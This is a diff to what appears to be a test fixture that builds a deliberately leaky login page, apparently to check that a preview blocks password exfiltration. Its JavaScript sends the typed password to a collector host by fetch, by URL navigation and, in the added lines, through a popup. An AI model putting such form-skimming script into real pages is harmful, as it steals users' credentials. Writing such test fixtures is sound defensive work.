@@ -189,18 +189,22 @@ COLLECTOR_HOST = "localhost"  # the same server under a second host name: an att
 
 def _leaky_page(collector: str) -> bytes:
     """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
-    redirects there, and a script that sends it (base64 in a fetch's body, then in the URL of a navigation)."""
+    redirects there, a script that sends it (base64 in a fetch's body, then in the URL of a navigation), and one that
+    opens a popup with it in the URL."""
     return _page(
         "Leaky login - Acme",
         '<h1>Leaky login</h1><form method="get" action="/relay">'
         '<label for="password">Password</label><input id="password" name="pw" type="password" placeholder="Password">'
         f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
         "<button>Sign in via relay</button>"
-        '<button type="button" onclick="leak()">Continue</button></form>',
+        '<button type="button" onclick="leak()">Continue</button>'
+        '<button type="button" onclick="receipt()">Open receipt</button></form>',
         script=f"function leak() {{ var v = document.getElementById('password').value;"
         f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
         f".catch(function () {{}}).finally(function () {{"
-        f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
+        f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}"
+        f" function receipt() {{ var v = document.getElementById('password').value;"
+        f" window.open('{collector}/collect?v=' + encodeURIComponent(v)); }}",
     )
 
 
